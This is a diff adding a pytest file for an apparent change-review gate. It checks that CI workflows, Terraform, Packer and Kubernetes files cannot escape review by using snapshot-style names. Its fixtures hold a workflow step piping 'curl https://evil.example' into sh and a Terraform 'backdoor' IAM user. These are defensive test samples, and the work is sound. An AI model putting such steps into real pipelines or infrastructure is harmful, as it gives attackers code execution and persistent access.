@@ -1,0 +1,52 @@
+"""Names that claim any file type (`*.verified.*`, `syntax_test_*`, `Gemfile-*`) must not hide a file its folder runs.
+
+GitHub, Gitea and Forgejo run every YAML file directly in their workflows folder; Terraform, OpenTofu and Packer load
+every file of their extensions in the folder they run in; `kubectl apply -f k8s/` applies every manifest there. On
+f1405b6 a new workflow `.github/workflows/deploy.verified.yml`, a Terraform file `infra/backdoor.verified.tf` or
+`infra/Gemfile-x.tf`, and a Deployment `k8s/web.received.yaml` were src or deps by those names, and the default gate
+allowed each change (exit 0) in both modes. tests/test_classify_paths.py checks every open-ended name of the rules.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from changecase import committed, gated
+
+WORKFLOW = "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example | sh\n"
+TERRAFORM = 'resource "aws_iam_user" "backdoor" {\n  name = "ops2"\n}\n'
+DEPLOYMENT = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 1\n"
+
+CASES = {
+    ".github/workflows/deploy.verified.yml": WORKFLOW,
+    ".github/workflows/syntax_test_ci.yaml": WORKFLOW,
+    ".gitea/workflows/build.received.yml": WORKFLOW,
+    ".forgejo/workflows/Gemfile-ci.yml": WORKFLOW,
+    "infra/backdoor.verified.tf": TERRAFORM,
+    "infra/main.received.tf.json": '{"resource": {"aws_iam_user": {"b": {"name": "ops2"}}}}\n',
+    "infra/Gemfile-x.tf": TERRAFORM,
+    "infra/syntax_test_x.tofu": TERRAFORM,
+    "packer/image.verified.pkr.hcl": 'source "amazon-ebs" "x" {\n  ami_name = "x"\n}\n',
+    "k8s/web.received.yaml": DEPLOYMENT,
+    "k8s/web.verified.yaml": DEPLOYMENT,
+}
+
+
+@pytest.mark.parametrize("path", sorted(CASES))
+@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
+def test_a_file_its_folder_runs_is_reviewed_whatever_its_name(tmp_path: Path, path: str, tree: bool) -> None:
+    case = committed(tmp_path, {"infra/main.tf": TERRAFORM.replace("backdoor", "app"), "k8s/kustomization.yaml":
+                                "resources: []\n"}, {path: CASES[path]})
+    code, decision = gated(case, tree, deps=False)
+    assert code == 3, (code, decision.get("findings"))
+
+
+def test_a_snapshot_output_beside_its_test_stays_src(tmp_path: Path) -> None:
+    # Verify's expected output next to the test that writes it: not run by anything, not reviewed with the commits.
+    # From a patch alone it is `needs-context`, as any file no name rule settles (a new `tests/x.json` is too).
+    case = committed(tmp_path, {}, {"tests/Api.Get.verified.txt": "{ status: 200 }\n",
+                                    "tests/Api.Get.verified.json": '{"status": 200}\n'})
+    code, decision = gated(case, True, deps=False)
+    assert code == 0, decision.get("findings")
+    assert decision["summary"]["buckets"]["src"]["files"] == 2, decision["summary"]
